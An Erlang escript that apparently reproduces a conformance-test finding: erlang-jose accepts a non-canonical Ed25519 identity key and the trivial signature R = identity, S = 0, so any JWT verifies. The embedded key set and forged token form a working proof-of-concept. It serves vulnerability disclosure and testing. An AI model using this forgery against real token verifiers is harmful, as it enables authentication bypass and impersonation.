#!/usr/bin/env escript
%% -*- erlang -*-
%%
%% Standalone reproduction of erlang-jose's gravest conformance finding (jwt-conformance).
%%
%% Finding: erlang-jose loads an Ed25519 public key that is not a canonical point encoding, the
%% identity point written with y = p + 1 (jose_jwk:from_binary takes the OKP "x" as is), and
%% jose_jwt:verify_strict then accepts the trivial signature R = identity, S = 0 on any token:
%% every message verifies, with no private key. Neither from_binary nor verify_strict has an
%% option that validates the key (verify_strict takes only the allowed algorithms).
%% Violates RFC 8032 §5.1.3 (decoding a point fails when y >= p), which RFC 8037 §3.1.2 verifies
%% with: a key set holding such a key (a broken or hostile key endpoint) lets anyone forge tokens.
%%
%% Reproduces: eddsa/key-non-canonical-identity-y-p-plus-1 (forgery)
%%
%% Configured exactly as the adapter (adapter.escript) is: jose:json_module(jose_json_jiffy),
%% jose_jwk:from_binary on the vector's key set, the key whose kid matches the token's, and
%% jose_jwt:verify_strict(Key, [EdDSA], Token) with the vector's algorithms. Needs Debian's
%% erlang-jose and erlang-jiffy (scripts/setup/erlang.sh). Run: escript repro.escript (from any
%% folder). Exit 0 when the finding shows, 1 when it does not.
-mode(compile).

-include_lib("jose/include/jose_jwk.hrl").
-include_lib("jose/include/jose_jwt.hrl").

-define(ID, "eddsa/key-non-canonical-identity-y-p-plus-1").
-define(KID, <<"ed25519">>).
-define(JWKS, <<"{\"keys\":[{\"alg\":\"EdDSA\",\"crv\":\"Ed25519\",\"kid\":\"ed25519\",\"kty\":\""
                "OKP\",\"use\":\"sig\",\"x\":\"7v_______________________________________38\"}]}">>).
-define(TOKEN, <<"eyJhbGciOiJFZERTQSIsImtpZCI6ImVkMjU1MTkiLCJ0eXAiOiJhdCtqd3QifQ.eyJhdWQiOiJodHRwc"
                 "zovL2FwaS5leGFtcGxlIiwiY2xpZW50X2lkIjoiY2xpZW50LTEiLCJleHAiOjQxMDI0NDQ4MDAsImlhd"
                 "CI6MTAwMDAwMDAwMCwiaXNzIjoiaHR0cHM6Ly9pc3N1ZXIuZXhhbXBsZSIsImp0aSI6Imp0aS0wMDAxI"
                 "iwic3ViIjoiMDFIWlkySjNLNE01TjZQN1E4UjlTMFQxVjIifQ.AQAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
                 "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA">>).

main(_) ->
    ok = jose:json_module(jose_json_jiffy),
    #jose_jwk{keys = {jose_jwk_set, Keys}} = jose_jwk:from_binary(?JWKS),
    [Key] = [K || K = #jose_jwk{fields = #{<<"kid">> := Kid}} <- Keys, Kid =:= ?KID],
    Result = try jose_jwt:verify_strict(Key, [<<"EdDSA">>], ?TOKEN)
             catch Class:Reason -> {Class, Reason}
             end,
    case Result of
        {true, #jose_jwt{fields = #{<<"sub">> := Sub}}, _} ->
            io:format("REPRODUCED ~s: jose_jwt:verify_strict accepted the signature R = identity, S = 0 under the non-canonical identity key (sub ~s)~n", [?ID, Sub]),
            halt(0);
        Other ->
            io:format("NOT REPRODUCED ~s: jose_jwt:verify_strict returned ~0P~n", [?ID, Other, 4]),
            halt(1)
    end.
